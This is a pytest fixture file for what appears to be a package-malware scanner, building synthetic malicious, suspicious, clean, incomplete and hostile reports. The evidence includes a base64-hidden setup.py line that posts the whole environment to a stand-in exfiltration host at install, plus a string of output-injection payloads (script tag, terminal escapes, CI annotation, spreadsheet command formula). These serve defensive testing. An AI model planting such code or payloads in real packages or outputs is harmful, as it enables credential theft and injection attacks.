"""Fixed reports of invented packages, one for each face a report can have."""

from __future__ import annotations

import dataclasses

import pytest

from packamal.capability import Capability
from packamal.model import (
    Artifact,
    Confidence,
    Evidence,
    Finding,
    Flow,
    Level,
    Origin,
    Problem,
    Reason,
    Relation,
    Report,
    Role,
    Severity,
    Signal,
    Verdict,
)

SDIST = "colour-helpers-1.0.3.tar.gz"
HOSTILE = (
    "\x1b[31mred\u202e</script><script>alert(1)</script>\n::error file=x::y\r\x00\u200b]]>\"=cmd|'/c calc'!A0\ud800"
)


def malicious() -> Report:
    send = Evidence(
        artifact=SDIST,
        path="colour-helpers-1.0.3/setup.py",
        line=14,
        snippet='blob = "aW1wb3J0IG9zLCByZXF1ZXN0cwpyZXF1ZXN0cy5wb3N0KA=="\nexec(base64.b64decode(blob))',
        decoded='import os, requests\nrequests.post("https://collect.exfil.example/in", json=dict(os.environ))',
        steps=("base64",),
    )
    start = Evidence(
        SDIST, "colour-helpers-1.0.3/colour/_native.py", 3, 'subprocess.Popen(["/tmp/.x"], close_fds=True)'
    )
    return Report(
        target="pkg:pypi/colour-helpers@1.0.3",
        purl="pkg:pypi/colour-helpers@1.0.3",
        verdict=Verdict(
            Level.MALICIOUS,
            97,
            (
                Reason(
                    "exfil/env-to-http",
                    45,
                    "Sends the whole environment to https://collect.exfil.example/in at installation",
                ),
                Reason("hide/decoded-exec", 30, "Runs code that was hidden in base64"),
                Reason("drop/start-hidden", 14, "Starts a file it wrote to /tmp/.x"),
                Reason("meta/near-name", 6, "Its name is one letter from colour-helper"),
                Reason("meta/no-repository", 2, "Names no repository"),
            ),
        ),
        artifacts=(
            Artifact("pkg:pypi/colour-helpers@1.0.3", SDIST, "3f" * 32, 12_431, "sdist", "2026-11-20T08:15:00Z"),
            Artifact(
                "pkg:pypi/colour-helpers@1.0.3", "colour_helpers-1.0.3-py3-none-any.whl", "7a" * 32, 9_870, "wheel"
            ),
        ),
        findings=(
            Finding(
                "exfil/env-to-http",
                "Sends environment variables to a remote host",
                "Reads the whole environment and sends it to https://collect.exfil.example/in when it is installed.",
                Severity.CRITICAL,
                Confidence.HIGH,
                Role.INSTALL,
                Relation.FLOW,
                ("T1041", "T1552"),
                (send,),
            ),
            Finding(
                "drop/start-hidden",
                "Starts a file it dropped",
                "Writes /tmp/.x and starts it without a window.",
                Severity.HIGH,
                Confidence.MEDIUM,
                Role.IMPORT,
                Relation.FUNCTION,
                ("T1105",),
                (start,) * 5,
            ),
            Finding(
                "meta/near-name",
                "Name close to a popular one",
                "colour-helpers is one letter from colour-helper.",
                Severity.LOW,
                Confidence.LOW,
                Role.NEVER,
                Relation.PACKAGE,
            ),
        ),
        signals=(
            Signal(Capability.ENV_READ_ALL, Role.INSTALL, Origin.STATIC, send, "os.environ"),
            Signal(
                Capability.NET_SEND,
                Role.INSTALL,
                Origin.STATIC,
                send,
                "https://collect.exfil.example/in",
                "",
                "setup.py",
            ),
            Signal(Capability.HOST_RAW_IP, Role.IMPORT, Origin.STATIC, start, "203.0.113.9"),
            Signal(Capability.PROC_HIDDEN, Role.IMPORT, Origin.STATIC, start, "/tmp/.x", "start"),
        ),
        flows=(Flow(0, 1),),
        notes=("1.0.3 is the newest version", "2 further wheels were not judged"),
        timings_ms={"fetch": 410, "python": 120, "total": 640},
        files=24,
        tool_version="0.1.0",
        rules_version="0123456789ab",
    )


def clean() -> Report:
    purl = "pkg:npm/%40example/flat-list@3.0.1"
    return Report(
        target="@example/flat-list@3.0.1",
        purl=purl,
        verdict=Verdict(Level.CLEAN, 2),
        artifacts=(Artifact(purl, "flat-list-3.0.1.tgz", "1b" * 32, 2_310, "npm"),),
        timings_ms={"total": 58},
        files=4,
        tool_version="0.1.0",
        rules_version="0123456789ab",
    )


def suspicious() -> Report:
    finding = dataclasses.replace(malicious().findings[1], evidence=malicious().findings[1].evidence[:1])
    verdict = Verdict(Level.SUSPICIOUS, 48, (Reason("drop/start-hidden", 14, "Starts a file it wrote to /tmp/.x"),))
    return dataclasses.replace(malicious(), verdict=verdict, findings=(finding,), artifacts=malicious().artifacts[1:])


def incomplete() -> Report:
    return Report(
        target="dist/broken-0.9.tar.gz",
        purl="",
        verdict=Verdict(
            Level.INCOMPLETE, 34, (Reason("hide/decoded-exec", 12, "Runs code that was hidden in base64"),)
        ),
        artifacts=(Artifact("", "broken-0.9.tar.gz", "c4" * 32, 8_400_000, "tar.gz"),),
        errors=(
            Problem("archive", "ends in the middle of a member; download it again", "broken-0.9/data/model.bin"),
            Problem("yara", "the rules could not be compiled", is_partial=False),
        ),
        timings_ms={"total": 120_000},
        files=3,
        tool_version="0.1.0",
        rules_version="0123456789ab",
    )


def hostile() -> Report:
    """Every text a package can choose holds what breaks careless output."""
    bad = Evidence(HOSTILE, HOSTILE, 7, HOSTILE, HOSTILE, (HOSTILE,))
    finding = Finding(
        "hide/odd",
        HOSTILE,
        HOSTILE,
        Severity.CRITICAL,
        Confidence.HIGH,
        Role.INSTALL,
        Relation.FILE,
        ("T1027",),
        (bad,),
    )
    return Report(
        target=HOSTILE,
        purl="",
        verdict=Verdict(Level.MALICIOUS, 80, (Reason("hide/odd", 20, HOSTILE),)),
        artifacts=(Artifact("", HOSTILE, "ab" * 32, 100, "tar"),),
        findings=(finding,),
        signals=(Signal(Capability.NET_SEND, Role.INSTALL, Origin.STATIC, bad, HOSTILE, HOSTILE, HOSTILE),),
        errors=(Problem("archive", HOSTILE, HOSTILE),),
        notes=(HOSTILE,),
        files=1,
        tool_version="0.1.0",
        rules_version="0123456789ab",
    )


FACES = {face.__name__: face for face in (malicious, suspicious, clean, incomplete, hostile)}


@pytest.fixture
def faces() -> dict[str, Report]:
    """All synthetic reports by name."""
    return {name: build() for name, build in FACES.items()}


@pytest.fixture
def everyday(faces: dict[str, Report]) -> list[Report]:
    """The four levels, without hostile text."""
    return [faces[name] for name in ("malicious", "suspicious", "clean", "incomplete")]
